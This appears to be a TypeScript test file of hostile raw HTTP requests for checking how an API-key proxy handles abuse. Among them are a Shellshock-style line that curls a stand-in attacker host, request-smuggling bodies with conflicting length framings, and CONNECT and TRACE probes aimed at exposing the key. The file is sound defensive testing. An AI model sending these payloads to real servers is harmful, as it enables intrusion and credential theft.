/** Methods, versions, changes of protocol, expectations, sizes, and what is no HTTP at all. */

import { random } from "../../support/data/random.ts";
import { SECRETS } from "../../support/data/secrets.ts";
import {
  answered,
  ENCLOSED,
  type Family,
  FIELDS,
  forwarded,
  GET,
  HEAD,
  type HostileCase,
  POST,
  refused,
  SMUGGLED,
  tooLarge,
} from "./hostile_case.ts";

const METHODS: readonly HostileCase[] = [
  answered("CONNECT to an authority", `CONNECT evil.test:443 HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("CONNECT to a path", `CONNECT /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("CONNECT to a URL", `CONNECT http://evil.test/openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("TRACE, which would show the key", `TRACE /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("TRACK, the same by another name", `TRACK /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("TRACE in small letters", `trace /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("TRACE with Max-Forwards", `TRACE /openai/v1/x HTTP/1.1\r\n${FIELDS}Max-Forwards: 0\r\n\r\n`),
  answered("OPTIONS of everything", `OPTIONS * HTTP/1.1\r\n${FIELDS}\r\n`),
  answered("PRI in HTTP/1.1", `PRI * HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("a method with a colon", `GE:T /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("a method with a slash", `GET/ /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("a method with an at sign", `P@ST /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("a method in quotes", `"GET" /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("a method beyond ASCII", `G\xcaT /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("no method", `/openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  refused("a space in place of a method", ` /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("OPTIONS of a path", `OPTIONS /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("a method that nobody knows", `BREW /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("a method in small letters is another one", `get /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("a method of all signs", `!#$%&'*+-.^_\`|~09 /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("HEAD", `HEAD /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("HEAD with a body", `HEAD /openai/v1/x HTTP/1.1\r\n${FIELDS}Content-Length: 3\r\n\r\nabc`, {
    body: "abc",
  }),
];

const NO_VERSIONS = [
  "HTTP/0.9",
  "HTTP/1.2",
  "HTTP/1.9",
  "HTTP/2",
  "HTTP/2.0",
  "HTTP/3",
  "HTTP/1",
  "HTTP/1.",
  "HTTP/.1",
  "HTTP/1.10",
  "HTTP/1.01",
  "HTTP/01.1",
  "HTTP/1.1.1",
  "HTTP/-1.1",
  "HTTP/+1.1",
  "HTTP/1,1",
  "HTTP/1 .1",
  "HTTP /1.1",
  "HTTP/ 1.1",
  "HTTP/1.1 ",
  "HTTP/1.1x",
  "HTTP/1.\xb9",
  "http/1.1",
  "Http/1.1",
  "HTTPS/1.1",
  "HTP/1.1",
  "RTSP/1.0",
  "ICAP/1.0",
  "SIP/2.0",
  "1.1",
];

const VERSIONS: readonly HostileCase[] = [
  ...NO_VERSIONS.map((version) =>
    refused(`as a version: ${version}`, `GET /openai/v1/x ${version}\r\n${FIELDS}\r\n`)
  ),
  refused("HTTP/0.9 as it was", "GET /openai/v1/x\r\n\r\n"),
  refused("HTTP/0.9 with fields", `GET /openai/v1/x\r\n${FIELDS}\r\n`),
  refused("HTTP/2's preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  refused(
    "HTTP/2's preface and settings",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
  ),
  forwarded("HTTP/1.0", `GET /openai/v1/x HTTP/1.0\r\n${FIELDS}\r\n`, { closes: true }),
  forwarded(
    "HTTP/1.0 that would be kept",
    `GET /openai/v1/x HTTP/1.0\r\n${FIELDS}Connection: keep-alive\r\n\r\n`,
    { closes: true },
  ),
  forwarded("HTTP/1.0 with a body", `POST /openai/v1/x HTTP/1.0\r\n${FIELDS}Content-Length: 3\r\n\r\nabc`, {
    body: "abc",
    closes: true,
  }),
  forwarded(
    "HTTP/1.0 that expects to be told to go on",
    `POST /openai/v1/x HTTP/1.0\r\n${FIELDS}Expect: 100-continue\r\nContent-Length: 3\r\n\r\nabc`,
    { body: "abc", closes: true },
  ),
];

const UPGRADES: readonly HostileCase[] = [
  forwarded(
    "h2c",
    `${GET}${FIELDS}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
  ),
  forwarded("h2c that connection does not name", `${GET}${FIELDS}Upgrade: h2c\r\n\r\n`),
  forwarded("h2c with a body", `${HEAD}Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 3\r\n\r\nabc`, {
    body: "abc",
  }),
  forwarded("TLS within the connection", `${GET}${FIELDS}Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n`),
  forwarded("an upgrade to nothing", `${GET}${FIELDS}Connection: Upgrade\r\nUpgrade:\r\n\r\n`),
  answered(
    "an upgrade to several, a WebSocket without its key among them",
    `${GET}${FIELDS}Connection: Upgrade\r\nUpgrade: h2c, websocket\r\n\r\n`,
  ),
  answered(
    "a WebSocket with a body",
    `${GET}${FIELDS}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: ${ENCLOSED.length}\r\n\r\n${ENCLOSED}`,
  ),
  answered(
    "a WebSocket with a body in chunks",
    `${GET}${FIELDS}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n`,
  ),
  answered("a WebSocket in capitals", `${GET}${FIELDS}Connection: upgrade\r\nUpgrade: WEBSOCKET\r\n\r\n`),
  answered(
    "a WebSocket of a wrong version",
    `${GET}${FIELDS}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 999\r\n\r\n`,
  ),
];

const EXPECTATIONS: readonly HostileCase[] = [
  ...["100-continue", "100-Continue", "100-continue, 100-continue", "100-continue=x", "200-ok", "", "x"].map((
    value,
  ) =>
    forwarded(`expect: ${value}`, `${HEAD}Expect: ${value}\r\nContent-Length: 3\r\n\r\nabc`, { body: "abc" })
  ),
  forwarded("expect without a body", `${GET}${FIELDS}Expect: 100-continue\r\n\r\n`),
  forwarded(
    "expect before chunks",
    `${HEAD}Expect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n`,
    { body: "abc" },
  ),
  forwarded(
    "expect twice",
    `${HEAD}Expect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\nabc`,
    { body: "abc" },
  ),
  forwarded("expect that is obfuscated", `${HEAD}Expect: y 100-continue\r\nContent-Length: 3\r\n\r\nabc`, {
    body: "abc",
  }),
  refused(
    "expect before both framings",
    `${HEAD}Expect: 100-continue\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n`,
  ),
  refused("expect in a folded line", `${HEAD}Expect:\r\n 100-continue\r\nContent-Length: 3\r\n\r\nabc`),
];

const LONG = "a".repeat(60_000);

const SIZES: readonly HostileCase[] = [
  forwarded("a long target", `GET /openai/v1/${LONG} HTTP/1.1\r\n${FIELDS}\r\n`, {
    target: `/openai/v1/${LONG}`,
  }),
  forwarded("a long query", `GET /openai/v1/x?${LONG} HTTP/1.1\r\n${FIELDS}\r\n`, {
    target: `/openai/v1/x?${LONG}`,
  }),
  forwarded("a long value", `${GET}${FIELDS}X-A: ${LONG}\r\n\r\n`),
  forwarded("a long name", `${GET}${FIELDS}${LONG}: 1\r\n\r\n`),
  forwarded("a long method", `${LONG} /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  forwarded("200 fields", `${GET}${FIELDS}${"X-A: 1\r\n".repeat(200)}\r\n`),
  forwarded("200 values of connection", `${GET}${FIELDS}Connection: ${"x-a, ".repeat(200)}x\r\n\r\n`),
  tooLarge("300 fields", `${GET}${FIELDS}${"X-A: 1\r\n".repeat(300)}\r\n`),
  tooLarge("10,000 fields", `${GET}${FIELDS}${"X: 1\r\n".repeat(10_000)}\r\n`),
  tooLarge(
    "a target of more than a head may have",
    `GET /openai/v1/${LONG}${LONG} HTTP/1.1\r\n${FIELDS}\r\n`,
  ),
  tooLarge("a value of more than a head may have", `${GET}${FIELDS}X-A: ${LONG}${LONG}\r\n\r\n`),
  tooLarge("a name of more than a head may have", `${GET}${FIELDS}${LONG}${LONG}: 1\r\n\r\n`),
  tooLarge("a method of more than a head may have", `${LONG}${LONG} /openai/v1/x HTTP/1.1\r\n${FIELDS}\r\n`),
  tooLarge("half a million bytes without a line end", "a".repeat(500_000)),
  refused("a hundred thousand line ends", "\r\n".repeat(100_000)),
  tooLarge("a host of more than a head may have", `${GET}Host: ${LONG}${LONG}\r\n\r\n`),
];

/** Starts of other protocols on the plain port. */
const STRANGERS: readonly (readonly [name: string, bytes: string])[] = [
  [
    "TLS: a ClientHello",
    `\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03${
      "\x5a".repeat(32)
    }\x00\x00\x04\x13\x01\x13\x02\x01\x00\x00\x74`,
  ],
  [
    "TLS: a ClientHello that names a host",
    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x00\x00\x00\x0e\x00\x0c\x00\x00\x09evil.test",
  ],
  ["TLS: an alert", "\x15\x03\x03\x00\x02\x02\x28"],
  ["SSLv2: a hello", "\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10\x01\x00\x80"],
  ["SSH", "SSH-2.0-OpenSSH_9.2\r\n"],
  ["SMTP", "EHLO evil.test\r\nMAIL FROM:<a@evil.test>\r\n"],
  ["Redis", "*1\r\n$4\r\nPING\r\n"],
  ["memcached", "stats\r\n"],
  ["SOCKS 4", "\x04\x01\x00\x50\x7f\x00\x00\x01\x00"],
  ["SOCKS 5", "\x05\x01\x00"],
  ["the PROXY protocol", `PROXY TCP4 1.2.3.4 5.6.7.8 1234 80\r\n${GET}${FIELDS}\r\n`],
  [
    "the PROXY protocol, version 2",
    "\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x7f\x00\x00\x01\x7f\x00\x00\x01\x04\xd2\x00\x50",
  ],
  ["an answer", "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"],
  ["gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"],
  ["a request in UTF-16", [...`${GET}${FIELDS}\r\n`].join("\x00")],
  ["a request behind a byte order mark", `\xef\xbb\xbf${GET}${FIELDS}\r\n`],
  ["a WebSocket's frame", "\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58"],
  ["FastCGI", "\x01\x01\x00\x01\x00\x08\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00"],
  ["nothing but NULs", "\x00".repeat(1_000)],
  ["nothing but 0xff", "\xff".repeat(1_000)],
  ["JSON", '{"model":"gpt-4o","messages":[]}\r\n\r\n'],
  ["HTML", "<html><body>GET / HTTP/1.1</body></html>\r\n\r\n"],
  ["shell", "() { :; }; curl http://evil.test\r\n\r\n"],
];

const GARBAGE_CASES = 24;

/** Bytes of every kind that repeat from run to run. The first is no letter: it never makes a request. */
function garbage(): HostileCase[] {
  const { below } = random(20_260_101);
  return Array.from({ length: GARBAGE_CASES }, (_, index) => {
    const bytes = Array.from({ length: 20 + below(2_000) }, () => String.fromCharCode(below(256))).join("");
    return refused(`random bytes ${index + 1}`, `\x80${bytes}`);
  });
}

const UNKNOWN_TOKENS: readonly HostileCase[] = [
  answered("no token", `${GET}Host: p\r\n\r\n`, 401),
  answered("a wrong token", `${GET}Host: p\r\nAuthorization: Bearer ${SECRETS.clientKey}\r\n\r\n`, 401),
  answered(
    "a wrong token and a parent folder",
    `GET /openai/v1/../x HTTP/1.1\r\nHost: p\r\nX-Api-Key: x\r\n\r\n`,
    401,
  ),
  answered("no token at an evil host", `${GET}Host: evil.test\r\n\r\n`, 401),
  answered("a token of nothing", `${GET}Host: p\r\nAuthorization: Bearer\r\n\r\n`, 401),
  answered(
    "a token with a tab",
    `${GET}Host: p\r\nAuthorization: Bearer\t${SECRETS.proxyToken}\r\n\r\n`,
    401,
  ),
  answered("no token for TRACE", `TRACE /openai/v1/x HTTP/1.1\r\nHost: p\r\n\r\n`, 401),
  refused(
    "no token and both framings",
    `${POST}Host: p\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  ),
];

/** What the protocol itself is. */
export const PROTOCOL_FAMILIES: readonly Family[] = [
  ["methods", METHODS],
  ["versions", VERSIONS],
  ["changes of protocol", UPGRADES],
  ["expectations", EXPECTATIONS],
  ["sizes", SIZES],
  ["other protocols", STRANGERS.map(([name, bytes]) => refused(name, bytes))],
  ["random bytes", garbage()],
  ["without a token", UNKNOWN_TOKENS],
];
